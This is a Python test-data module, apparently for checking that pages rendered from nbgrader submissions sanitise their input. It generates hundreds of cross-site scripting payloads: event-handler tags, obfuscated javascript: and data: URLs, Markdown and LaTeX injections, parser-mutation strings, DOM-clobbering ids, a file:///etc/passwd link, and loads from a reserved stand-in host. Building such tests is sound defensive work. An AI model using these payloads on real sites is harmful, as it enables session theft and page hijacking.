"""Texts that would run a script in a page that lets them: tags, events, ways of writing and addresses, put together.

Each would call `evil()`, go somewhere or fetch something; none may do so in a page made from a submission.
"""

import itertools

HOST = "http://192.0.2.1"  # reserved for documents: nothing answers there
SCRIPT = "evil()"

# Tags that bring an event about by themselves, with the attribute that makes it happen.
EVENTS = {
    "img": ("src=x", ("onerror",)),
    "image": ("src=x", ("onerror",)),
    "video": ("src=x", ("onerror", "onloadstart")),
    "audio": ("src=x", ("onerror",)),
    "body": ("", ("onload", "onpageshow", "onfocus", "onresize")),
    "svg": ("", ("onload", "onfocusin")),
    "details": ("open", ("ontoggle",)),
    "input": ("autofocus", ("onfocus",)),
    "select": ("autofocus", ("onfocus",)),
    "textarea": ("autofocus", ("onfocus",)),
    "button": ("autofocus", ("onfocus",)),
    "marquee": ("", ("onstart", "onfinish")),
    "style": ("", ("onload",)),
    "object": ("data=x", ("onerror",)),
    "link": ("rel=stylesheet href=data:text/css,", ("onload",)),
    "a": ("tabindex=1 autofocus href=#", ("onfocus", "onclick")),
    "div": (
        "style=animation:x",
        ("onanimationstart", "onclick", "onmouseover", "onpointerenter", "oncontentvisibilityautostatechange"),
    ),
    "iframe": ("src=about:blank", ("onload",)),
    "embed": ("src=data:,", ("onload",)),
    "frameset": ("", ("onload",)),
    "dialog": ("open", ("onclose", "ontoggle")),
    "math": ("", ("onclick", "onfocus")),
    "custom-element": ("tabindex=1 autofocus", ("onfocus",)),
}
ENTITIES = "".join(f"&#{ord(c)};" for c in SCRIPT)
WRITTEN = (
    SCRIPT,
    f'"{SCRIPT}"',
    f"'{SCRIPT}'",
    f'"{ENTITIES}"',
    "".join(f"&#x{ord(c):x}" for c in "evil") + "&lpar;&rpar;",
)
SPACES = (" ", "/", "\n", "\t", "\x0c")

# Ways to write an address that runs, or that leads elsewhere without saying http.
ADDRESSES = [
    *(
        f"{scheme}{SCRIPT}"
        for scheme in (
            "javascript:",
            "JaVaScRiPt:",
            "java\tscript:",
            "java&#10;script:",
            "java&Tab;script:",
            "javascript&colon;",
            "&#106;avascript:",
            "&#x6a;avascript:",
            "&#0000106avascript:",
            "\x01javascript:",
            " javascript:",
            "javascript://%0a",
            "jav%61script:",
            "view-source:javascript:",
            "feed:javascript:",
            "javascript&#58;",
            "vbscript:",
            "livescript:",
            "jar:javascript:",
        )
    ),
    f"data:text/html,<script>{SCRIPT}</script>",
    "data:text/html;base64,PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='evil()'/>",
    "data:application/xhtml+xml,<x/>",
    'data:image/png;base64,iVBORw0KGgo=" onerror="evil()',
    "blob:x",
    "file:///etc/passwd",
    "//192.0.2.1/x",
    "\\\\192.0.2.1\\x",
    "/\\192.0.2.1/x",
    "/api/kernels",
    "../../other/page.html",
    "?token=x",
    "ftp://192.0.2.1/x",
    "mailto:a@example.org",
    "intent:x",
    "chrome://settings",
    "about:blank",
    "https:evil()",
]

# Where an address can stand.
PLACES = [
    "[text]({})",
    "[text](<{}>)",
    "![text]({})",
    "[text][1]\n\n[1]: {}\n",
    "![text][2]\n\n[2]: {} 'title'\n",
    "<{}>",
    '<a href="{}">text</a>',
    "<a href='{}' target=_top>text</a>",
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button autofocus>text</button></form>',
    '<form><button formaction="{}">text</button></form>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<base href="{}">',
    '<link rel="stylesheet" href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<svg><a xlink:href="{}"><text y="9">text</text></a></svg>',
    '<math><mtext href="{}" xlink:href="{}">text</mtext></math>',
    '<video poster="{}" src="{}" autoplay></video>',
    '<table background="{}"><td background="{}">text</table>',
    '<p style="background:url({})">text</p>',
    '<img srcset="{} 2x" src="">',
    "<q cite='{}'>text</q>",
    "$\\href{{{}}}{{text}}$",
    "$$\\href{{{}}}{{text}}$$",
    '<area href="{}" shape=default>',
    '<input type=image src="{}" formaction="{}">',
    '<track src="{}" default>',
    '<script src="{}"></script>',
    '<link rel=prefetch href="{}">',
    "<style>@import url({});</style>",
]

# What confuses who reads HTML in two ways, hides in another language, or uses what nbgrader's own pages listen to.
ODD = [
    "<script>evil()</script>",
    "<SCRIPT>evil()</SCRIPT>",
    "<scr<script>ipt>evil()</scr</script>ipt>",
    "<script\x0c>evil()</script>",
    "<script>evil()",
    "<<script>evil();//<</script>",
    "<script/x>evil()</script>",
    "</title><script>evil()</script>",
    "</textarea></style></xmp></noscript><script>evil()</script>",
    "--><script>evil()</script>",
    "<!--><img src=x onerror=evil()>-->",
    "<![CDATA[<img src=x onerror=evil()>]]>",
    "<?x <img src=x onerror=evil()> ?>",
    "<!x <img src=x onerror=evil()>",
    '<noscript><p title="</noscript><img src=x onerror=evil()>"></noscript>',
    "<xmp><p title='</xmp><img src=x onerror=evil()>'></xmp>",
    "<svg><style><img src=x onerror=evil()></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=evil()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=evil()&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=evil()></annotation-xml></math>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.evil()</script>'></iframe></foreignObject></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=evil()>",
    "<template><script>evil()</script></template>",
    "<svg><animate onbegin=evil() attributeName=x dur=1s>",
    "<svg><script href=data:,evil() /></svg>",
    "<svg><set onbegin=evil() attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=evil()/>#x'></svg>",
    "<iframe srcdoc='<script>parent.evil()</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;top.evil()&lt;/script&gt;'></iframe>",
    "<img src=x onerror\x00=evil()>",
    "<img/src/onerror=evil()>",
    "<img src='x'onerror=evil()>",
    "<img src=`x`onerror=evil()>",
    "<p title='`'><img src=x onerror=evil()>`",
    "&lt;script&gt;evil()&lt;/script&gt;",
    "\u003cscript\u003eevil()\u003c/script\u003e",
    "＜script＞evil()＜/script＞",
    "+ADw-script+AD4-evil()+ADw-/script+AD4-",
    "`<script>evil()</script>`",
    "```\n</code></pre><script>evil()</script>\n```",
    "```mermaid\n</pre><img src=x onerror=evil()>\n```",
    "```html\n<img src=x onerror=evil()>\n```",
    '```"><img src=x onerror=evil()>\nx\n```',
    "    <img src=x onerror=evil()>",
    "# <img src=x onerror=evil()>",
    "| <img src=x onerror=evil()> |\n|---|\n| <svg onload=evil()> |",
    "> <details open ontoggle=evil()>",
    "$<img src=x onerror=evil()>$",
    "$$</math><img src=x onerror=evil()>$$",
    "$\\text{<img src=x onerror=evil()>}$",
    "\\begin{align}<img src=x onerror=evil()>\\end{align}",
    "$\\class{x}{y}\\cssId{q2-test}{z}\\style{background:url(http://192.0.2.1/)}{w}$",
    "$\\require{html}\\data{x}{y}\\unicode{x3c}\\def\\x{\\x\\x}\\x$",
    "$" + "\\sqrt{" * 5000 + "$",
    "$" + "{" * 1900 + "$",
    "<b>" * 500,
    "[" * 800 + "x" + "]" * 800,
    "![x](attachment:none.png)",
    '![x](attachment:"onerror=evil())',
    '[x](https://example.org/"onmouseover="evil())',
    "[x](https://example.org 'a\"onclick=\"evil()')",
    '![a"onerror="evil()](data:image/png;base64,iVBORw0KGgo=)',
    '<b data-toggle="tooltip" data-html="true" title="<img src=x onerror=evil()>" class="name-hidden">x</b>',
    '<a data-toggle="tab" data-target="<img src=x onerror=evil()>" href="#">x</a>',
    '<a class="score" data-link="x">x</a>',
    '<input id="q1-answer" class="score tabbable" value="5">',
    '<p id="formgrader" name="MathJax">x</p>',
    '<form id="submission_id"><input name="x"></form>',
    '<a id="base_url" href="http://192.0.2.1/">x</a>',
    "# q2-test",
    "{{ 7 * 7 }} {% raw %} ${evil()} #{evil()} <%= evil() %>",
    "<div style='position:fixed;inset:0;z-index:9999;background:url(http://192.0.2.1/x)'>x</div>",
    "<img src=http://192.0.2.1/x.png>",
    "<link rel=dns-prefetch href=//192.0.2.1>",
    "<link rel=preload as=script href=http://192.0.2.1/x.js>",
    "<style>*{background:url(http://192.0.2.1/)}</style>",
    "<portal src=http://192.0.2.1></portal>",
    "<applet code=x></applet>",
    "<keygen autofocus onfocus=evil()>",
    "<bgsound src=http://192.0.2.1/x>",
    "<isindex action=javascript:evil()>",
    "<layer src=http://192.0.2.1/x></layer>",
    "<plaintext><script>evil()</script>",
    "<html manifest=http://192.0.2.1/x>",
    "<object type='text/x-scriptlet' data='http://192.0.2.1/x'></object>",
    "<x onclick=evil() tabindex=1 autofocus onfocus=evil()>",
]


def all_of_them():
    """Several hundred texts: each event of each tag written in three ways, each address in a third of the places."""
    ways = itertools.cycle(itertools.product(WRITTEN, SPACES, (str.lower, str.upper)))
    for tag, (extra, events) in EVENTS.items():
        for event in events * 3:
            script, space, case = next(ways)
            yield f"<{case(tag)}{space}{extra}{space}{case(event)}={script}>text</{tag}>"
    for number, address in enumerate(ADDRESSES):
        for place in PLACES[number % 3 :: 3]:
            yield place.format(*[address] * place.count("{}"))
    yield from ODD
